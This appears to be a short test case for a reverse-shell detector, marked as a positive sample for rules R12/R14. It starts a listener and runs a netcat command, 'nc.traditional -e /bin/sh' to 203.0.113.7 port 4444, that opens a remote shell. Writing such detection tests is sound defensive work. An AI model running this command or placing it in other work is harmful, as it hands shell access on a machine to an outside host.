# R12/R14 positive: traditional netcat reverse shell (-e execs the shell in nc's own process)
catcher 4444 'id\nexit\n'
nc.traditional -e /bin/sh 203.0.113.7 4444
catcher_wait
true
